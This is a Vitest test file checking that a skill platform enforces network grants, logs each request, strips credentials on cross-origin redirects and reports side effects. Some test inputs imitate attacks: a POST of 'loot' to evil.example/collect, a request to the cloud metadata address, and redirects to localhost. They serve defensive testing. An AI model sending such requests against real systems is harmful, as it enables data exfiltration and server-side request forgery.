import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { callSkill, type RunningApi, startApi } from "../support/api.ts";
import type { Tenant } from "../support/world.ts";
import { type OutsideServer, outsideServer, RELAY } from "./servers.ts";

let api: RunningApi;
let buyer: Tenant;
let outside: OutsideServer;
let calls = 0;

const NETWORK = ["GET,POST,DELETE:api.outside.example/v1/**", "GET:other.example/**"];
const GRANTS = ["http:api.outside.example/v1/** GET,POST,DELETE", "http:other.example/** GET", "file:/** read,write"];

beforeAll(async () => {
  outside = await outsideServer((request, response) => {
    if (request.path.startsWith("/v1/to?")) {
      response.writeHead(307, { location: decodeURIComponent(request.path.slice("/v1/to?".length)) }).end();
      return;
    }
    if (request.path === "/v1/hang") return;
    if (request.path === "/v1/broken") {
      response.writeHead(500).end("no");
      return;
    }
    response.writeHead(200, { "x-server": "outside" }).end(`${request.method} ${request.path} ${request.body}`);
  });
  api = await startApi({
    network: {
      ownPorts: [1],
      demoHosts: new Map([
        ["api.outside.example", outside.port],
        ["other.example", outside.port],
      ]),
    },
  });
  buyer = await api.world.addTenant("buyer", { grants: GRANTS });
  const manifest = await api.world.publish({ name: "net/relay", bundle: RELAY, manifest: { permissions: { network: NETWORK } } });
  await api.world.enable(buyer, manifest, GRANTS);
});
afterAll(async () => {
  await api.close();
  await outside.close();
});

interface Sent {
  readonly url: string;
  readonly method?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

async function send(requests: readonly Sent[], fail = false) {
  calls += 1;
  return callSkill(api.url, buyer.key, { skill: "net/relay", body: { input: { requests, fail } }, idempotencyKey: `fetch-test-${calls}` });
}

async function log(query = "") {
  const response = await fetch(`${api.url}/v1/network-log?limit=50${query}`, { headers: { authorization: `Bearer ${buyer.key}` } });
  // biome-ignore lint/suspicious/noExplicitAny: -- rows are asserted field by field
  return ((await response.json()) as { items: any[] }).items;
}

describe("a request of a skill", () => {
  it("[F53] is decided, sent and kept with call id, layer, rule, bytes and how it ended", async () => {
    const answer = await send([{ url: "https://api.outside.example/v1/things?x=1", method: "POST", body: "hello" }]);
    expect(answer.body.output.out[0]).toMatchObject({ status: 200, text: "POST /v1/things?x=1 hello", server: "outside" });
    expect(answer.body.usage.networkBytes).toBeGreaterThan(5);
    await new Promise((resolve) => setTimeout(resolve, 100));
    const [row] = await log(`&callId=${answer.body.callId}`);
    expect(row).toMatchObject({
      callId: answer.body.callId,
      skill: "net/relay",
      method: "POST",
      host: "api.outside.example",
      path: null,
      address: "127.0.0.1",
      verdict: "allowed",
      layer: "call",
      rule: "http:api.outside.example/v1/** DELETE,GET,POST",
      state: "answered",
      status: 200,
      bytesOut: 5,
    });
    expect(row.pathHash).toMatch(/^[0-9a-f]{32}$/);
  });

  it("[F50] carries an idempotency key of the call when it may change something, whatever the skill says", async () => {
    const before = outside.seen.length;
    await send([
      { url: "https://api.outside.example/v1/a", method: "POST", headers: { "Idempotency-Key": "mine" }, body: "1" },
      { url: "https://api.outside.example/v1/b", method: "GET" },
    ]);
    const [post, get] = outside.seen.slice(before);
    expect(post?.headers["idempotency-key"]).toMatch(/^[0-9a-f-]{36}-1$/);
    expect(get?.headers["idempotency-key"]).toBeUndefined();
  });

  it("[F48] [I3] reaches no host, method or path that nobody granted, and each refusal is kept", async () => {
    const before = outside.seen.length;
    const answer = await send([
      { url: "https://evil.example/collect", method: "POST", body: "loot" },
      { url: "https://api.outside.example/v2/things" },
      { url: "https://api.outside.example/v1/things", method: "PUT", body: "x" },
      { url: "http://169.254.169.254/latest/meta-data/" },
      { url: "http://api.outside.example/v1/things" },
    ]);
    expect(answer.body.output.out.map((one: { code: string }) => one.code)).toEqual(Array(5).fill("permission_denied"));
    expect(outside.seen.length).toBe(before);
    await new Promise((resolve) => setTimeout(resolve, 100));
    const rows = await log(`&callId=${answer.body.callId}`);
    expect(rows.map((row) => [row.n, row.layer, row.verdict]).sort()).toEqual([
      [1, "manifest", "denied"],
      [2, "manifest", "denied"],
      [3, "manifest", "denied"],
      [4, "platform", "denied"],
      [5, "platform", "denied"],
    ]);
  });

  it("[F51] is decided anew at each redirect, and leaves credentials behind when the origin changes", async () => {
    const before = outside.seen.length;
    const to = (url: string) => `https://api.outside.example/v1/to?${encodeURIComponent(url)}`;
    const answer = await send([
      { url: to("https://other.example/x"), headers: { authorization: "Bearer abcdefgh", "x-keep": "1" } },
      { url: to("https://evil.example/x") },
      { url: to("http://127.0.0.1:1/x") },
      { url: to("/v1/same") },
    ]);
    const { out } = answer.body.output;
    expect(out[0]).toMatchObject({ status: 200, redirected: true, url: "https://other.example/x" });
    expect(out.slice(1, 3).map((one: { code: string }) => one.code)).toEqual(["permission_denied", "permission_denied"]);
    expect(out[3]).toMatchObject({ status: 200, redirected: true });
    const arrived = outside.seen.slice(before).find((one) => one.path === "/x");
    expect(arrived?.headers.authorization).toBeUndefined();
    expect(arrived?.headers["x-keep"]).toBe("1");
  });

  it("[F53] an error after an effect says what was done, and its key never acts again", async () => {
    const body = { input: { requests: [{ url: "https://api.outside.example/v1/order", method: "POST", body: "1" }], fail: true } };
    const request = { skill: "net/relay", body, idempotencyKey: "effect-test-1" };
    const before = outside.seen.length;
    const first = await callSkill(api.url, buyer.key, request);
    expect(first.status).toBe(502);
    expect(first.body.effects).toEqual([{ target: "POST https://api.outside.example/…", state: "done" }]);
    const second = await callSkill(api.url, buyer.key, request);
    expect(second.body.effects).toEqual(first.body.effects);
    expect(outside.seen.length).toBe(before + 1);
  });

  it("[F53] a call stopped after an effect does not say that nothing happened", async () => {
    const post = (path: string) => ({ url: `https://api.outside.example${path}`, method: "POST", body: "1" });
    const pending = send([post("/v1/order"), post("/v1/hang")]);
    await expect.poll(() => outside.seen.some(({ path }) => path === "/v1/hang")).toBe(true);
    const control = (method: string, path: string, body: object) =>
      fetch(`${api.url}/v1/kill-switches${path}`, {
        method,
        headers: { authorization: `Bearer ${buyer.key}`, "content-type": "application/json" },
        body: JSON.stringify({ reason: "it is asked for", ...body }),
      });
    const { id } = (await (await control("POST", "", { target: { skill: "net/relay" } })).json()) as { readonly id: string };
    const { body } = await pending;
    expect((await control("DELETE", `/${id}`, {})).ok).toBe(true);
    expect(body).toMatchObject({ code: "killed", billed: false });
    expect(body.effects.map(({ state }: { state: string }) => state)).toEqual(["done", "unknown"]);
    expect(body.detail).toContain("Your workspace is unchanged and nothing is billed. It had acted outside, though: look at the effects");
  });

  it("[I4] needs an idempotency key of the caller", async () => {
    const answer = await callSkill(api.url, buyer.key, { skill: "net/relay", body: { input: { requests: [] } } });
    expect(answer.body.code).toBe("idempotency_required");
  });
});
